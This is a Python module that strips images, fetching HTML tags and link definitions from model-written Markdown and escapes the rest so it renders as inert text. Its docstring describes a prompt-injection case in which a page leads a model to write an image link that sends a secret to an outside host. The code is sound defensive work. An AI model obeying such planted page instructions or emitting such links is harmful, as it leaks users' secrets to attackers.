"""Markdown that does nothing when it is shown: no picture is fetched, no link leads elsewhere.

A page may tell a model to write "![](https://elsewhere/?q=SECRET)": what renders that as Markdown
would send the secret. Answers that a model wrote lose such pictures; what is written to files as
Markdown shows everything from documents and models as plain text.
"""

from __future__ import annotations

import re

_PICTURE = re.compile(
    r"!\[([^\[\]\n]{0,500})\](?:\([^()\n]{0,4000}\)|\[[^\[\]\n]{0,500}\])"
    r"|<([a-z]{1,20})(\s[^<>\n]{0,4000})?>",
    re.IGNORECASE,
)
_FETCHING = re.compile(
    "img|image|picture|iframe|frame|object|embed|video|audio|source|track|link|script|style|svg|base"
    "|meta|form",
    re.IGNORECASE,
)
_DEFINED = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,500}\]:[ \t]*\S.*$", re.MULTILINE)
_ACTIVE = re.compile(r"(?<=\])(?=[(:])|<(?=[A-Za-z/!?])")


def without_pictures(text: str) -> str:
    """A model's words without what would be fetched: pictures give their alternative text."""
    return _DEFINED.sub("", _PICTURE.sub(_unfetched, text))


def _unfetched(match: re.Match[str]) -> str:
    """A picture's alternative text; of tags, only those that are plain."""
    _, tag, attributes = match.groups()
    if tag is None:
        return match[1]
    return "" if _FETCHING.fullmatch(tag) or "=" in (attributes or "") else match[0]


def inert(text: str) -> str:
    """The text as Markdown that shows it literally: no pictures, links or HTML."""
    return _ACTIVE.sub(lambda match: "&lt;" if match[0] else "\\", text)
